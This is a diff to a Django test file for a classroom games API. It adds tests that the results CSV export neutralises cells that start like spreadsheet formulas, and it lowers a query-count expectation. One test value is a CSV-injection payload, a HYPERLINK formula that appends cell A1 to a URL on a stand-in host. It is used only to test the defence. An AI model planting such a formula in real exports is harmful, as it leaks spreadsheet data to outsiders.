@@ -10,6 +10,7 @@ import io
 import pytest
 from django.utils import timezone
 
+from games.api.assignments import csv_cell
 from games.models import Assignment, Game, Student
 from tests.api.conftest import run_due_work
 
@@ -296,6 +297,33 @@ def test_results_as_csv_hold_the_rows_of_the_json(classes, room):
         ] == [list(line.values()) for line in table]
 
 
+FORMULA_NAMES = ['=HYPERLINK("http://x.example/?"&A1,"Ann")', "+1+1", "-2+3", "@SUM(A1)",
+                 "Plain = fine", "'Quoted"]
+
+
+def test_results_csv_writes_no_cell_a_spreadsheet_takes_for_a_formula(classes):
+    room = classes.open()
+    for name in FORMULA_NAMES:
+        classes.join(room, name)
+    work = assignment(classes, room)
+    table = list(csv.reader(io.StringIO(
+        results(classes, room, work, HTTP_ACCEPT="text/csv").content.decode()
+    )))
+    written = sorted(line[0] for line in table[1:])
+    expected = sorted(("'" + name) if name[0] in "=+-@" else name for name in FORMULA_NAMES)
+    assert written == expected
+    # The JSON keeps the names as they were given.
+    names = {row["student"]["name"] for row in results(classes, room, work).json()["students"]}
+    assert names == set(FORMULA_NAMES)
+
+
+@pytest.mark.parametrize("text", ["\tTab", "\rReturn", "=1", "+1", "-1", "@A1"])
+def test_a_csv_cell_starting_like_a_formula_starts_with_a_quote(text):
+    # Names are trimmed when students join; a tab or a carriage return is guarded anyway.
+    assert csv_cell(text) == "'" + text
+    assert csv_cell("Ann") == "Ann" and csv_cell(None) == "" and csv_cell(-3) == -3
+
+
 def test_results_are_the_teachers_only(classes, room):
     work = assignment(classes, room)
     assert_problem(results(classes, room, work, HTTP_X_API_KEY=classes.key_of(room, "Ann")),
@@ -312,9 +340,9 @@ def test_results_cost_the_same_queries_for_any_class(classes, students,
     Student.objects.bulk_create(
         Student(classroom_id=room.id, name=f"S{i}", name_key=f"s{i}") for i in range(students - 1)
     )
-    # The key, the assignment, the students, the games, and the logs of the finished games
-    # whose accuracy is not cached yet (all at once).
-    with django_assert_num_queries(5) as queries:
+    # The key, the assignment, the students, and their games' seats with the figures kept
+    # when each game finished.
+    with django_assert_num_queries(4) as queries:
         rows = results(classes, room, work).json()["students"]
     assert len(rows) == students, [q["sql"][:60] for q in queries.captured_queries]
 
